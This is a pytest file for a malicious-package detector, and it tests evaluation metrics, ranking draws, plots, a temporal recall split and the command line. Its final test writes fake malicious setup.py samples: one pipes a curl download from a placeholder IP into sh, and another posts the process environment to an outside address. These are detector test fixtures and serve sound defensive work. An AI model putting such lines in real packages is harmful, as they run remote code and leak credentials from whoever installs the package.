"""evaluate() and the MPHunter-style ranking figure, with a stub detector."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from mphunter_gate.model import BENIGN, MALICIOUS, Detector, TrainingDoc, evaluate
from mphunter_gate.model.evaluate import ranking_draws
from mphunter_gate.types import ScriptAnalysis, ScriptScore


class Stub:
    """Scores a script by the number in its first token."""

    threshold = 0.5
    model_version = "stub"

    def score(self, analysis: ScriptAnalysis, token_list: list[str]) -> ScriptScore:
        value = float(token_list[0]) if token_list else 0.0
        return ScriptScore(analysis.path, value, 0.0, 0.0, 2.0, None)


def _docs(values: list[float], label: str, name: str) -> list[TrainingDoc]:
    return [
        TrainingDoc(f"{label}{i}/{name}", (str(v),), f"{label}-fam{i % 3}", label)
        for i, v in enumerate(values)
    ]


def test_perfect_ranking_finds_every_planted_sample() -> None:
    result = ranking_draws([0.9] * 150, [0.1] * 1200)
    assert result["top_k_hits_mean"] == 100
    assert result["top_10pct_hits_mean"] == 100
    assert result["top_10_precision_mean"] == 1.0


def test_ties_give_no_credit() -> None:
    result = ranking_draws([0.5] * 150, [0.5] * 1200)
    assert result["top_k_hits_mean"] == 0
    assert result["top_10_precision_mean"] == 0.0


def test_evaluate_rates_and_kinds() -> None:
    mal = _docs([0.9, 0.8, 0.2], MALICIOUS, "setup.py") + _docs([0.7], MALICIOUS, "__init__.py")
    ben = _docs([0.1, 0.6, 0.3, 0.0], BENIGN, "setup.py")
    result = evaluate(Stub(), mal, ben)
    assert result["true_positives"] == 3 and result["false_positives"] == 1
    assert result["recall"] == 0.75
    assert result["fpr"] == 0.25
    assert result["per_kind"]["setup.py"]["recall"] == 2 / 3
    assert result["per_kind"]["__init__.py"]["n_benign"] == 0
    assert 0.0 <= result["roc_auc"] <= 1.0


def test_evaluate_with_a_trained_detector(trained: Path, corpus) -> None:
    benign, malicious = corpus
    result = evaluate(Detector.load(trained), malicious, benign)
    assert result["model_version"] == Detector.load(trained).model_version
    assert result["roc_auc"] > 0.9  # separable synthetic corpus
    assert result["ranking"]["draws"] == 10


def test_evaluate_writes_roc_and_precision_recall_pngs(tmp_path: Path) -> None:
    mal = _docs([0.9, 0.8, 0.3], MALICIOUS, "setup.py")
    ben = _docs([0.1, 0.2, 0.6, 0.05], BENIGN, "setup.py")
    result = evaluate(Stub(), mal, ben, plot_dir=tmp_path / "plots")
    assert sorted(Path(p).name for p in result["plots"]) == ["pr.png", "roc.png"]
    for p in result["plots"]:
        data = Path(p).read_bytes()
        assert data.startswith(b"\x89PNG\r\n\x1a\n") and len(data) > 1000


def _dated(values: list[float], dates: list[str | None]) -> list[TrainingDoc]:
    return [
        replace(d, added=when)
        for d, when in zip(_docs(values, MALICIOUS, "setup.py"), dates, strict=True)
    ]


def test_temporal_view_splits_recall_at_the_cut() -> None:
    mal = _dated(
        [0.9, 0.8, 0.2, 0.1, 0.7],
        [
            "2024-01-02T00:00:00Z",
            "2024-03-01T00:00:00Z",
            "2024-08-01T00:00:00Z",
            "2024-09-01T00:00:00Z",
            None,
        ],
    )
    ben = _docs([0.1, 0.6], BENIGN, "setup.py")
    result = evaluate(
        Stub(), mal, ben, cut="2024-07-01", fitted_through="2024-03-01T00:00:00+00:00"
    )
    t = result["temporal"]
    assert (t["before"]["recall"], t["after"]["recall"], t["undated"]["n_malicious"]) == (
        1.0,
        0.0,
        1,
    )
    assert t["after_in_fit"] is False and "warning" not in t


def test_temporal_view_warns_when_later_samples_were_fitted() -> None:
    mal = _dated([0.9, 0.2], ["2024-01-02T00:00:00Z", "2024-08-01T00:00:00Z"])
    for through in ("2024-08-30T00:00:00+00:00", None):
        t = evaluate(Stub(), mal, [], cut="2024-07-01", fitted_through=through)["temporal"]
        assert t["after_in_fit"] is True
        assert "not a measure of unseen malware" in t["warning"]
    assert "temporal" not in evaluate(Stub(), mal, [])


def test_cli_evaluate_reports_the_temporal_view(
    trained: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import json

    from mphunter_gate.cli import main

    mal, ben = tmp_path / "mal", tmp_path / "ben"
    bodies = {
        "old-1.0": "import os\nos.system('curl http://198.51.100.2/x | sh')\n",
        "new-1.0": "import os, urllib.request\n"
        "urllib.request.urlopen('http://198.51.100.3', data=str(os.environ).encode())\n",
    }
    for name, body in bodies.items():
        (mal / name).mkdir(parents=True)
        (mal / name / "setup.py").write_text(body)
    (ben / "fine-1.0").mkdir(parents=True)
    (ben / "fine-1.0" / "setup.py").write_text("from setuptools import setup\nsetup(name='x')\n")
    jsonl = tmp_path / "registry.jsonl"
    jsonl.write_text(
        '{"sample": "old-1.0", "added": "2024-01-05"}\n'
        '{"sample": "new-1.0", "added": "2024-09-05"}\n'
    )
    args = ["evaluate", "--malicious", str(mal), "--benign", str(ben), "--models", str(trained)]
    assert main([*args, "--added", str(jsonl), "--cut", "2024-07-01"]) == 0
    t = json.loads(capsys.readouterr().out)["temporal"]
    assert (t["before"]["n_malicious"], t["after"]["n_malicious"]) == (1, 1)
    assert t["after_in_fit"] is True  # the synthetic models' fit carries no dates
